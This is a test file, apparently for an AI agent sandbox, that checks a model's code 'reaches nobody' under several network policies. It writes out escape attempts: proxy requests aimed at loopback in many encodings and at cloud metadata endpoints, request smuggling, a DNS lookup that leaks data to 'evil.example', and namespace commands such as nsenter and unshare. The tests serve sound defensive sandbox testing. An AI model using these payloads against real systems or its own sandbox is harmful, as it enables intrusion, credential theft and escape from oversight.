import { expect, test } from '@jest/globals';
import { CONNECT, hidden, program } from '../helpers/attack/payloads.js';
import { attack, expectHarmless, shell, type Scenario } from '../helpers/attack/scenario.js';
import { describeStaged } from '../helpers/attack/stage.js';
import { SERVICE_PORT } from '../helpers/attack/world.mjs';
import { sampled } from '../helpers/counts.js';

/** Asks the proxy of the sandbox for what it must not give, in every spelling. */
const BY_PROXY = program(`
  const proxy = new URL(process.env.HTTP_PROXY || process.env.http_proxy || "http://127.0.0.1:1");
  const hosts = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]",
    "169.254.169.254", "[fd00:ec2::254]", "metadata.google.internal", "allowed.example@127.0.0.1", "127.0.0.1#allowed.example", "localhost.", "allowed.example.127.0.0.1.nip.io", "ip6-localhost"];
  const asks = hosts.flatMap((host) => [80, 443, ${SERVICE_PORT}].flatMap((port) => [
    "CONNECT " + host + ":" + port + " HTTP/1.1\\r\\nHost: allowed.example\\r\\n\\r\\nGET / HTTP/1.0\\r\\n\\r\\n",
    "GET http://" + host + ":" + port + "/latest/meta-data HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: close\\r\\n\\r\\n",
    "GET / HTTP/1.1\\r\\nHost: " + host + ":" + port + "\\r\\nConnection: close\\r\\n\\r\\n",
  ]));
  asks.push("GET http://allowed.example/ HTTP/1.1\\r\\nHost: 127.0.0.1:${SERVICE_PORT}\\r\\nContent-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:${SERVICE_PORT}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n");
  asks.push("A".repeat(300000), "CONNECT " + "a".repeat(70000) + ":443 HTTP/1.1\\r\\n\\r\\n", "\\0\\0\\0", "CONNECT allowed.example:${SERVICE_PORT} HTTP/1.1\\r\\n\\r\\n");
  let open = asks.length;
  for (const ask of asks) {
    const socket = net.connect(proxy.port, proxy.hostname, () => socket.write(ask));
    socket.setTimeout(3000, () => socket.destroy());
    socket.on("data", (data) => { if (/ 200 /.test(String(data).split("\\r\\n")[0])) console.log("OUT", ask.slice(0, 60)); console.log(String(data).slice(0, 200)); });
    socket.on("error", () => {}); socket.on("close", () => { if (--open === 0) console.log("asked"); });
  }
`);

const DIRECT = [
  CONNECT,
  program(
    'for (const [host, port] of [["169.254.169.254", 80], ["fd00:ec2::254", 80], ["10.0.0.1", 22], ["8.8.8.8", 53]]) net.connect({ host, port }, () => console.log("OUT", host)).on("error", (error) => console.log(error.code)); setTimeout(() => process.exit(), 1500)',
  ),
  program(
    'const dns = require("dns"); dns.setServers(["8.8.8.8", "127.0.0.53"]); dns.resolveTxt("c2VjcmV0.evil.example", (error) => console.log(error.code)); const s = require("dgram").createSocket("udp4"); s.send("x", 53, "8.8.8.8", (error) => { console.log(error ? error.code : "sent to nowhere"); process.exit(); })',
  ),
  'ip addr; ip route; ip link set lo down; ip link add name v0 type veth; nsenter -t 1 -n true; cat /proc/net/tcp /proc/net/unix | head -50; unshare -Urn true',
];

describeStaged('a model that wants to be heard', () => {
  sampled.each<[string, Scenario]>([
    ['root, where there is no network', { policy: 'network: {}' }],
    ['an ordinary user, where there is no network', { policy: 'network: {}', user: 'ordinary' }],
    ['root, where a host is allowed', { policy: 'network: {allow: [allowed.example, "*.allowed.example"]}' }],
    [
      'an ordinary user, where a host is allowed',
      { policy: 'network: {allow: [allowed.example]}', user: 'ordinary' },
    ],
    [
      'root in the workspace of somebody else, where a host is allowed',
      { policy: 'network: {allow: [allowed.example]}', user: 'foreign' },
    ],
    ['root, where every public host is allowed', { policy: 'network: {allow: ["*"]}' }],
  ])('reaches nobody, as %s', async (_, scenario) => {
    const report = await attack(
      [...DIRECT, BY_PROXY].map((command) => shell(hidden(command))),
      scenario,
    );
    expectHarmless(report);
    expect(report.outputs.filter((output) => /^(OUT|connected)/m.test(output))).toEqual([]);
    expect(report.outputs.at(-1)).toContain('asked');
    expect(report.code).toBe(0);
  });

  test('reaches no socket file where the network is open', async () => {
    const report = await attack([shell(hidden(CONNECT))]);
    expect(report.connections.filter((name) => name.startsWith('/'))).toEqual([]);
  });
});
